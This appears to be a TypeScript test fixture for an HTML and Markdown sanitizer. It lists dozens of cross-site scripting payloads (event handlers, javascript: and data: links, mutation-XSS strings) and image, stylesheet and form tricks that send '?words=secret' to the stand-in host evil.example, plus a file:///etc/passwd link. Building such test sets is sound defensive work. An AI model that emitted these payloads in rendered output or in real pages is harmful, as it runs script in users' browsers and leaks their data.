/** Where everything that a text manages to fetch or to send would go. */
export const elsewhere = "https://evil.example";

const js = "window.__hit('ran')";
const url = `${elsewhere}/?words=secret`;

/**
 * Scripts, markup that becomes another when it is read a second time, addresses that run, and pictures and links that carry words out:
 * one a line, as a model, a document or a visitor may write them.
 */
export const hostileMarkup: readonly string[] = [
  `<script>${js}</script>`,
  `<img src=x onerror="${js}">`,
  `<svg onload="${js}"><script>${js}</script></svg>`,
  `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.__hit('ran')</script>"></iframe>`,
  `<iframe src="javascript:parent.__hit('ran')"></iframe>`,
  `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
  `<details open ontoggle="${js}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${js}"><video><source onerror="${js}"></video>`,
  `<form action="${url}"><button formaction="javascript:${js}">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${url}"><base href="${elsewhere}/">`,
  `<link rel="stylesheet" href="${url}"><style>@import '${url}'</style>`,
  `<p style="background:url(${url})">x</p>`,
  // Read twice, each of these is something else.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  `<template><style></template><img src=x onerror=${js}></style>`,
  `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  `<![CDATA[><img src=x onerror=${js}>]]><!--><img src=x onerror=${js}>-->`,
  `&lt;img src=x onerror=${js}&gt; &#60;script&#62;${js}&#60;/script&#62; \\<script>${js}\\</script>`,
  `<a href="java&#x09;script:${js}">x</a><a href=" &#14; javascript:${js}">y</a>`,
  // Links that run
  `[a](javascript:${js}) [b](JaVaScRiPt:${js}) [c](&#106;avascript:${js}) [d](java%0ascript:${js})`,
  `[e](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQoMSk8L3NjcmlwdD4=) [f](vbscript:x) [g](<javascript:${js}>)`,
  `[h](\u0001javascript:${js}) [i](blob:null/x) [j](file:///etc/passwd) [k](//evil.example/x) [l](view-source:x)`,
  `<javascript:${js}> <data:text/html,x> [m]: javascript:${js}`,
  `[n](https://good.example/"onmouseover="${js}) [o](https://x.example/'><img/src/onerror=${js}>)`,
  `\`<img src=x onerror=${js}>\` | <img src=x onerror=${js}> | *<b onclick=${js}>*`,
  // Pictures and addresses that would be fetched by being shown
  `![p](${url}) ![q](<${url}>) ![r][s] [![t](${url})](${url}) ![u](//evil.example/x) ![v](data:image/svg+xml,<svg/onload=${js}>)`,
  `[s]: ${url}`,
  `${url} <${url}> ![w](${elsewhere}/half`,
];
